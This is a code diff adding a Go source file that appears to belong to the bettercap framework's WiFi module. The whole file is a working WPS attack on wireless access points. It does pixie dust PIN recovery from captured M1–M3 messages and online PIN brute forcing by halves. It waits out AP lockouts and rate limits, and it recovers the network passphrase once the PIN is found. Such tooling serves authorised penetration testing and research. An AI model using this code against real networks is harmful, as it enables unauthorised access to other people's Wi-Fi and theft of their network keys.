@@ -0,0 +1,499 @@
+package wifi
+
+import (
+	"bytes"
+	"fmt"
+	"net"
+	"time"
+
+	"github.com/bettercap/bettercap/network"
+	"github.com/bettercap/bettercap/packets"
+
+	"github.com/gopacket/gopacket"
+	"github.com/gopacket/gopacket/layers"
+)
+
+type wpsResult int
+
+const (
+	wpsResultError wpsResult = iota
+	wpsResultTimeout
+	wpsResultLocked
+	wpsResultRefused
+	wpsResultPixieData
+	wpsResultFirstHalfWrong
+	wpsResultSecondHalfWrong
+	wpsResultSuccess
+)
+
+func (r wpsResult) String() string {
+	switch r {
+	case wpsResultTimeout:
+		return "timeout"
+	case wpsResultLocked:
+		return "locked"
+	case wpsResultRefused:
+		return "refused"
+	case wpsResultPixieData:
+		return "pixie data"
+	case wpsResultFirstHalfWrong:
+		return "first half wrong"
+	case wpsResultSecondHalfWrong:
+		return "second half wrong"
+	case wpsResultSuccess:
+		return "success"
+	}
+	return "error"
+}
+
+// the default PIN used when we only need M1-M3 for the pixie dust attack
+const wpsPixiePIN = "12345670"
+
+// the shortest wait before retrying an exchange the AP didn't complete
+const wpsMinBackoff = 500 * time.Millisecond
+
+type wpsAttack struct {
+	ap       *network.AccessPoint
+	requests chan *layers.EAP
+	stop     chan struct{}
+	seq      uint16
+	pixie    bool
+}
+
+func (mod *WiFiModule) isWPSRunning() bool {
+	mod.wpsLock.Lock()
+	defer mod.wpsLock.Unlock()
+	return mod.wps != nil
+}
+
+func (mod *WiFiModule) isWPSActive(attack *wpsAttack) bool {
+	mod.wpsLock.Lock()
+	defer mod.wpsLock.Unlock()
+	return mod.wps == attack
+}
+
+// discoverWPS forwards EAP requests sent by the target AP to the running WPS attack.
+func (mod *WiFiModule) discoverWPS(radiotap *layers.RadioTap, dot11 *layers.Dot11, packet gopacket.Packet) {
+	mod.wpsLock.Lock()
+	attack := mod.wps
+	mod.wpsLock.Unlock()
+
+	if attack == nil {
+		return
+	}
+
+	if ok, eap, apMac, staMac := packets.Dot11ParseEAP(packet, dot11); ok && eap.Code == layers.EAPCodeRequest {
+		if bytes.Equal(apMac, attack.ap.HW) && bytes.Equal(staMac, mod.iface.HW) {
+			select {
+			case attack.requests <- eap:
+			default:
+				mod.Debug("dropping EAP request from %s, queue is full", apMac)
+			}
+		}
+	}
+}
+
+func (mod *WiFiModule) wpsInject(attack *wpsAttack, build func(seq uint16) (error, []byte)) {
+	attack.seq++
+	if err, pkt := build(attack.seq); err != nil {
+		mod.Error("could not create WPS packet: %s", err)
+	} else {
+		mod.injectPacket(pkt)
+	}
+}
+
+func (mod *WiFiModule) wpsWaitRequest(attack *wpsAttack, timeout time.Duration) *layers.EAP {
+	select {
+	case eap := <-attack.requests:
+		return eap
+	case <-time.After(timeout):
+		return nil
+	case <-attack.stop:
+		return nil
+	}
+}
+
+// wpsSleep waits for the given duration, returns false if the attack has
+// been stopped in the meantime.
+func (mod *WiFiModule) wpsSleep(attack *wpsAttack, d time.Duration) bool {
+	select {
+	case <-time.After(d):
+		return true
+	case <-attack.stop:
+		return false
+	}
+}
+
+func (mod *WiFiModule) wpsSendMsg(attack *wpsAttack, id uint8, opCode uint8, msg []byte) {
+	mod.wpsInject(attack, func(seq uint16) (error, []byte) {
+		return packets.NewDot11WSC(mod.iface.HW, attack.ap.HW, seq, id, opCode, msg)
+	})
+}
+
+// wpsExchange runs a single registration protocol session with the given PIN.
+func (mod *WiFiModule) wpsExchange(attack *wpsAttack, pin string) (wpsResult, *packets.WPSRegistrar, *packets.WPSCredential) {
+	registrar, err := packets.NewWPSRegistrar(attack.ap.HW, pin)
+	if err != nil {
+		mod.Error("%v", err)
+		return wpsResultError, nil, nil
+	}
+
+	// drain anything left from a previous session
+	for len(attack.requests) > 0 {
+		<-attack.requests
+	}
+
+	defer mod.wpsInject(attack, func(seq uint16) (error, []byte) {
+		return packets.NewDot11Disassociation(mod.iface.HW, attack.ap.HW, seq)
+	})
+
+	mod.wpsInject(attack, func(seq uint16) (error, []byte) {
+		return packets.NewDot11Auth(mod.iface.HW, attack.ap.HW, seq)
+	})
+	mod.wpsInject(attack, func(seq uint16) (error, []byte) {
+		return packets.NewDot11WPSAssociationRequest(mod.iface.HW, attack.ap.HW, attack.ap.ESSID(), seq)
+	})
+	mod.wpsInject(attack, func(seq uint16) (error, []byte) {
+		return packets.NewDot11EAPOLStart(mod.iface.HW, attack.ap.HW, seq)
+	})
+
+	fragments := []byte(nil)
+	lastSent := packets.WPSMessageType(0)
+
+	for mod.Running() && mod.isWPSActive(attack) {
+		eap := mod.wpsWaitRequest(attack, mod.wpsTimeout)
+		if eap == nil {
+			mod.Debug("WPS timeout waiting for %s reply (last sent %s)", attack.ap.BSSID(), lastSent)
+			return wpsResultTimeout, registrar, nil
+		}
+
+		if eap.Type == layers.EAPTypeIdentity {
+			mod.wpsInject(attack, func(seq uint16) (error, []byte) {
+				return packets.NewDot11EAPIdentity(mod.iface.HW, attack.ap.HW, seq, eap.Id, packets.WPSRegistrarIdentity)
+			})
+			continue
+		}
+
+		ok, frame := packets.WSCParse(eap)
+		if !ok {
+			mod.Debug("ignoring non WSC EAP request (type %d)", eap.Type)
+			continue
+		} else if frame.OpCode == packets.WSCOpStart {
+			continue
+		}
+
+		fragments = append(fragments, frame.Data...)
+		if frame.Flags&packets.WSCFlagMore != 0 {
+			mod.wpsSendMsg(attack, eap.Id, packets.WSCOpFragAck, nil)
+			continue
+		}
+
+		raw := fragments
+		fragments = nil
+
+		msg, err := packets.WPSParseMessage(raw)
+		if err != nil {
+			mod.Debug("could not parse WPS message: %v", err)
+			continue
+		}
+
+		mod.Debug("got WPS %s from %s", msg.Type(), attack.ap.BSSID())
+
+		reply := []byte(nil)
+		switch msg.Type() {
+		case packets.WPSMsgM1:
+			if reply, err = registrar.HandleM1(raw); err == nil {
+				lastSent = packets.WPSMsgM2
+			}
+
+		case packets.WPSMsgM2D:
+			return wpsResultRefused, registrar, nil
+
+		case packets.WPSMsgM3:
+			if attack.pixie {
+				if _, err = registrar.HandleM3(raw); err == nil {
+					mod.wpsSendMsg(attack, eap.Id, packets.WSCOpNack, registrar.Nack(0))
+					return wpsResultPixieData, registrar, nil
+				}
+			} else if reply, err = registrar.HandleM3(raw); err == nil {
+				lastSent = packets.WPSMsgM4
+			}
+
+		case packets.WPSMsgM5:
+			if reply, err = registrar.HandleM5(raw); err == nil {
+				lastSent = packets.WPSMsgM6
+			}
+
+		case packets.WPSMsgM7:
+			cred, err := registrar.HandleM7(raw)
+			if err != nil {
+				mod.Error("%v", err)
+				return wpsResultError, registrar, nil
+			}
+			mod.wpsSendMsg(attack, eap.Id, packets.WSCOpNack, registrar.Nack(0))
+			return wpsResultSuccess, registrar, cred
+
+		case packets.WPSMsgNack:
+			configError, _ := msg.GetUint16(packets.WPSAttrConfigError)
+			mod.wpsSendMsg(attack, eap.Id, packets.WSCOpNack, registrar.Nack(configError))
+			if configError == packets.WPSConfigErrorSetupLocked || configError == packets.WPSConfigErrorDeviceBusy {
+				return wpsResultLocked, registrar, nil
+			} else if lastSent == packets.WPSMsgM4 {
+				return wpsResultFirstHalfWrong, registrar, nil
+			} else if lastSent == packets.WPSMsgM6 {
+				return wpsResultSecondHalfWrong, registrar, nil
+			}
+			mod.Debug("got WSC_NACK after %s (config error %d)", lastSent, configError)
+			return wpsResultError, registrar, nil
+		}
+
+		if err != nil {
+			mod.Warning("WPS %s error: %v", msg.Type(), err)
+			return wpsResultError, registrar, nil
+		} else if reply != nil {
+			mod.wpsSendMsg(attack, eap.Id, packets.WSCOpMsg, reply)
+		}
+	}
+
+	return wpsResultError, registrar, nil
+}
+
+func (mod *WiFiModule) wpsFound(ap *network.AccessPoint, mode string, pin string, cred *packets.WPSCredential) {
+	event := WPSEvent{
+		AP:   ap.BSSID(),
+		PIN:  pin,
+		Mode: mode,
+	}
+	if cred != nil {
+		event.SSID = cred.SSID
+		event.Key = cred.Key
+	}
+	mod.Session.Events.Add("wifi.wps.pin", event)
+}
+
+func (mod *WiFiModule) isAPLocked(ap *network.AccessPoint) bool {
+	locked, found := ap.WPS["AP Setup Locked"]
+	return found && locked == "01"
+}
+
+// wpsRun attempts the exchange with the same PIN, waiting for the AP to
+// unlock and backing off exponentially when it doesn't reply, up to
+// wifi.wps.retries times.
+func (mod *WiFiModule) wpsRun(attack *wpsAttack, pin string) (wpsResult, *packets.WPSRegistrar, *packets.WPSCredential) {
+	backoff := mod.wpsDelay
+	if backoff < wpsMinBackoff {
+		backoff = wpsMinBackoff
+	}
+
+	for failures := 0; mod.Running() && mod.isWPSActive(attack); {
+		if mod.isAPLocked(attack.ap) {
+			mod.Warning("%s advertises WPS setup as locked, waiting %s ...", attack.ap.ESSID(), mod.wpsLockDelay)
+			if !mod.wpsSleep(attack, mod.wpsLockDelay) {
+				break
+			}
+			continue
+		}
+
+		res, registrar, cred := mod.wpsExchange(attack, pin)
+		switch res {
+		case wpsResultTimeout, wpsResultError:
+			if failures++; failures > mod.wpsRetries {
+				return res, registrar, nil
+			}
+			mod.Debug("WPS attempt %d/%d with PIN %s failed (%s), retrying in %s", failures, mod.wpsRetries, pin, res, backoff)
+			if !mod.wpsSleep(attack, backoff) {
+				return res, registrar, nil
+			}
+			if backoff *= 2; backoff > mod.wpsLockDelay {
+				backoff = mod.wpsLockDelay
+			}
+		case wpsResultLocked:
+			mod.Warning("%s is rate limiting WPS attempts, waiting %s ...", attack.ap.ESSID(), mod.wpsLockDelay)
+			if !mod.wpsSleep(attack, mod.wpsLockDelay) {
+				return res, registrar, nil
+			}
+		default:
+			return res, registrar, cred
+		}
+	}
+	return wpsResultError, nil, nil
+}
+
+func (mod *WiFiModule) wpsPixie(attack *wpsAttack) {
+	attack.pixie = true
+	res, registrar, _ := mod.wpsRun(attack, wpsPixiePIN)
+	if res == wpsResultRefused {
+		mod.Error("%s refused the registration (M2D)", attack.ap.ESSID())
+		return
+	} else if res != wpsResultPixieData {
+		if mod.isWPSActive(attack) {
+			mod.Error("could not get M1-M3 from %s after %d retries: %s", attack.ap.ESSID(), mod.wpsRetries, res)
+		}
+		return
+	}
+
+	data, err := registrar.PixieData()
+	if err != nil {
+		mod.Error("%v", err)
+		return
+	}
+
+	mod.Info("got M1-M3 from %s, running pixie dust attack ...", attack.ap.ESSID())
+
+	found, err := packets.WPSPixieDust(data)
+	if err != nil {
+		mod.Warning("%v", err)
+		return
+	}
+
+	mod.Info("found WPS PIN %s for %s (%s mode), recovering the passphrase ...", found.PIN, attack.ap.ESSID(), found.Mode)
+
+	attack.pixie = false
+	cred := (*packets.WPSCredential)(nil)
+	if res, _, cred = mod.wpsRun(attack, found.PIN); res != wpsResultSuccess {
+		mod.Warning("could not recover the passphrase of %s: %s", attack.ap.ESSID(), res)
+	}
+
+	mod.wpsFound(attack.ap, "pixie:"+found.Mode, found.PIN, cred)
+}
+
+func (mod *WiFiModule) wpsBrute(attack *wpsAttack) {
+	first, second := mod.wpsStartFirst, uint(0)
+	started := time.Now()
+	attempts := 0
+
+	for first < 10000 && second < 1000 && mod.Running() && mod.isWPSActive(attack) {
+		pin := packets.WPSPinFromHalves(first, second)
+		mod.State.Store("wps.pin", pin)
+
+		res, _, cred := mod.wpsRun(attack, pin)
+		attempts++
+		switch res {
+		case wpsResultRefused:
+			mod.Error("%s refused the registration (M2D)", attack.ap.ESSID())
+			return
+		case wpsResultTimeout, wpsResultError:
+			if mod.isWPSActive(attack) {
+				mod.Error("giving up on %s after %d retries with PIN %s: %s", attack.ap.ESSID(), mod.wpsRetries, pin, res)
+			}
+			return
+		case wpsResultFirstHalfWrong:
+			first++
+		case wpsResultSecondHalfWrong:
+			if second == 0 {
+				mod.Info("found first half of the PIN for %s: %04d", attack.ap.ESSID(), first)
+			}
+			second++
+		case wpsResultSuccess:
+			mod.Info("found WPS PIN %s for %s after %d attempts in %s", pin, attack.ap.ESSID(), attempts, time.Since(started))
+			mod.wpsFound(attack.ap, "brute", pin, cred)
+			return
+		}
+
+		if attempts%10 == 0 {
+			mod.Info("[%s] %d WPS PINs tried in %s, current %s", attack.ap.ESSID(), attempts, time.Since(started), pin)
+		}
+
+		if !mod.wpsSleep(attack, mod.wpsDelay) {
+			return
+		}
+	}
+}
+
+func (mod *WiFiModule) startWPS(bssid net.HardwareAddr, pixie bool) error {
+	if !mod.Running() {
+		return fmt.Errorf("wifi.recon must be running in order to receive WPS messages")
+	} else if mod.isWPSRunning() {
+		return fmt.Errorf("a WPS attack is already running, use wifi.wps.stop first")
+	}
+
+	ap, found := mod.Session.WiFi.Get(bssid.String())
+	if !found {
+		return fmt.Errorf("%s is an unknown BSSID", bssid.String())
+	} else if len(ap.WPS) == 0 {
+		mod.Warning("%s is not advertising WPS, trying anyway", ap.ESSID())
+	}
+
+	var err error
+	var timeout, delay, lockDelay, retries, startFirst int
+	if err, timeout = mod.IntParam("wifi.wps.timeout"); err != nil {
+		return err
+	} else if err, delay = mod.IntParam("wifi.wps.delay"); err != nil {
+		return err
+	} else if err, lockDelay = mod.IntParam("wifi.wps.lock.delay"); err != nil {
+		return err
+	} else if err, retries = mod.IntParam("wifi.wps.retries"); err != nil {
+		return err
+	} else if retries < 0 {
+		return fmt.Errorf("wifi.wps.retries can't be negative")
+	} else if err, startFirst = mod.IntParam("wifi.wps.brute.start"); err != nil {
+		return err
+	} else if startFirst < 0 || startFirst > 9999 {
+		return fmt.Errorf("wifi.wps.brute.start must be between 0 and 9999")
+	}
+
+	mod.wpsTimeout = time.Duration(timeout) * time.Second
+	mod.wpsDelay = time.Duration(delay) * time.Millisecond
+	mod.wpsLockDelay = time.Duration(lockDelay) * time.Second
+	mod.wpsRetries = retries
+	mod.wpsStartFirst = uint(startFirst)
+
+	attack := &wpsAttack{
+		ap:       ap,
+		requests: make(chan *layers.EAP, 16),
+		stop:     make(chan struct{}),
+	}
+
+	mod.wpsLock.Lock()
+	mod.wps = attack
+	mod.wpsLock.Unlock()
+
+	mod.writes.Add(1)
+	go func() {
+		defer mod.writes.Done()
+		defer func() {
+			mod.wpsLock.Lock()
+			if mod.wps == attack {
+				mod.wps = nil
+			}
+			mod.wpsLock.Unlock()
+			mod.State.Store("wps.pin", nil)
+		}()
+
+		// stick to the AP channel for the whole duration of the attack
+		mod.chanLock.Lock()
+		prev := mod.stickChan
+		mod.stickChan = ap.Channel
+		mod.hopUnlocked(ap.Channel)
+		mod.chanLock.Unlock()
+
+		defer func() {
+			mod.chanLock.Lock()
+			mod.stickChan = prev
+			mod.chanLock.Unlock()
+		}()
+
+		if pixie {
+			mod.Info("starting WPS pixie dust attack against %s (channel:%d)", ap.ESSID(), ap.Channel)
+			mod.wpsPixie(attack)
+		} else {
+			mod.Info("starting WPS PIN brute force against %s (channel:%d)", ap.ESSID(), ap.Channel)
+			mod.wpsBrute(attack)
+		}
+	}()
+
+	return nil
+}
+
+func (mod *WiFiModule) stopWPS() error {
+	mod.wpsLock.Lock()
+	defer mod.wpsLock.Unlock()
+
+	if mod.wps == nil {
+		return fmt.Errorf("no WPS attack is running")
+	}
+	// wake up the attack if it's waiting for the AP
+	close(mod.wps.stop)
+	mod.wps = nil
+	return nil
+}